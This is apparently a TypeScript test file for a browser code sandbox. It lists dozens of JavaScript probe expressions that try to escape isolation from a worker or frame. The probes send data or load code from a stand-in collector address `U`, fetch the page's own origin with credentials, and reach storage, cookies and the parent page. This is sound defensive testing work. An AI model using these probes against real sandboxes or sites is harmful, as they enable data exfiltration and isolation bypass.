/** What code in a worker tries, by name: expressions over `U`, the address of a collector, and `OWN`, that of the page. */
export const WORKER_PROBES: Readonly<Record<string, string>> = {
  fetch: "fetch(U + '/fetch')",
  'fetch by the prototype of the scope':
    "Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).fetch.call(globalThis, U + '/proto')",
  'fetch without cors': "fetch(U + '/nocors', { method: 'POST', mode: 'no-cors', body: 'secret' })",
  'fetch of the page’s own origin': "fetch(OWN + '/api/me', { credentials: 'include' })",
  'a request made by hand': "fetch(new Request(U + '/request'))",
  XMLHttpRequest: "(function () { var x = new XMLHttpRequest(); x.open('GET', U + '/xhr'); x.send(); return x; })()",
  'XMLHttpRequest that waits':
    "(function () { var x = new XMLHttpRequest(); x.open('GET', U + '/sync', false); x.send(); return x.status; })()",
  WebSocket: "new WebSocket(U.replace('http', 'ws') + '/socket')",
  WebSocketStream: "new WebSocketStream(U.replace('http', 'ws') + '/stream').opened",
  WebTransport: "new WebTransport(U.replace('http', 'https') + '/transport').ready",
  EventSource: "new EventSource(U + '/events')",
  FontFace: "new FontFace('a', 'url(' + U + '/font)').load()",
  importScripts: "importScripts(U + '/import.js')",
  'importScripts of the page’s own origin': "importScripts(OWN + '/api/runtime/current')",
  'import by a call': "import(U + '/module.js')",
  'import of data': "import('data:text/javascript,fetch(\"' + U + '/data\")')",
  eval: "(0, eval)('fetch(U)') || fetch(U + '/eval')",
  'code out of text': "new Function('u', 'return fetch(u)')(U + '/function')",
  'code out of text by a constructor': "({}).constructor.constructor('return fetch')()(U + '/constructor')",
  'code out of text later': "setTimeout('fetch(\"' + U + '/timer\")', 0)",
  'a worker in the worker':
    "new Worker(URL.createObjectURL(new Blob(['fetch(\"' + U + '/sub\")'], { type: 'text/javascript' })))",
  'a worker from elsewhere': "new Worker(U + '/worker.js')",
  'a shared worker': "new SharedWorker(U + '/shared.js')",
  'a beacon': "navigator.sendBeacon(U + '/beacon', 'x')",
  'another address': "location.assign(U + '/location')",
  'a window': "open(U + '/open')",
  WebRTC: "new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + STUN }] }).createDataChannel('x')",
};

/** What must not be there for a function at all: each has to throw. */
export const WORKER_REACHES: Readonly<Record<string, string>> = {
  'the frame, by a message': "postMessage({ type: 'ready' })",
  'the frame, by the scope': "self.postMessage('x')",
  'the frame, by the prototype': "Object.getPrototypeOf(globalThis).postMessage.call(globalThis, 'x')",
  'a database': "indexedDB.open('x')",
  caches: "caches.open('x')",
  'private files': 'navigator.storage.getDirectory()',
  'other tabs': "new BroadcastChannel('x').postMessage('x')",
  'local storage': "localStorage.getItem('x')",
  cookies: 'document.cookie',
  'the page': 'parent.document',
  'the scope’s constructor': 'globalThis.constructor.prototype.postMessage.length',
  'time that passes': 'performance.now()',
  'shared memory': 'new SharedArrayBuffer(8)',
  WebAssembly: 'new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))',
  'events of the scope': "addEventListener('message', function () {})",
};

/** What the frame itself would try, were its script taken over. */
export const FRAME_PROBES: Readonly<Record<string, string>> = {
  fetch: "fetch(U + '/f-fetch').catch(() => 0)",
  beacon: "navigator.sendBeacon(U + '/f-beacon', 'x')",
  picture: "new Image().src = U + '/f-image'",
  'picture in the page': "document.body.insertAdjacentHTML('beforeend', '<img src=\"' + U + '/f-img\">')",
  prefetch: "document.head.insertAdjacentHTML('beforeend', '<link rel=prefetch href=\"' + U + '/f-prefetch\">')",
  preconnect: "document.head.insertAdjacentHTML('beforeend', '<link rel=preconnect href=\"' + U + '\">')",
  style: "document.head.insertAdjacentHTML('beforeend', '<link rel=stylesheet href=\"' + U + '/f-style\">')",
  'script in the page':
    "(function () { var s = document.createElement('script'); s.src = U + '/f-script'; document.body.append(s); })()",
  'script of text':
    "(function () { var s = document.createElement('script'); s.textContent = 'fetch(\"' + U + '/f-inline\")'; document.body.append(s); })()",
  'speculation rules':
    "(function () { var s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [U + '/f-rules'] }] }); document.body.append(s); })()",
  form: "(function () { var f = document.createElement('form'); f.action = U + '/f-form'; f.method = 'post'; document.body.append(f); f.submit(); })()",
  ping: "(function () { var a = document.createElement('a'); a.href = '#x'; a.ping = U + '/f-ping'; document.body.append(a); a.click(); })()",
  download:
    "(function () { var a = document.createElement('a'); a.href = U + '/f-download'; a.download = 'x'; document.body.append(a); a.click(); })()",
  frame: "(function () { var f = document.createElement('iframe'); f.src = U + '/f-frame'; document.body.append(f); })()",
  window: "window.open(U + '/f-open')",
  'the top window': "(function () { try { top.location.href = U + '/f-top'; } catch (e) {} })()",
  'a socket': "(function () { try { new WebSocket(U.replace('http', 'ws') + '/f-socket'); } catch (e) {} })()",
  WebRTC:
    "(function () { try { var c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + STUN }] }); c.createDataChannel('x'); c.createOffer().then(function (o) { return c.setLocalDescription(o); }); } catch (e) {} })()",
  'a refresh': "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=\"0;url=' + U + '/f-refresh\">')",
  'another address': "location.href = U + '/f-location'",
};
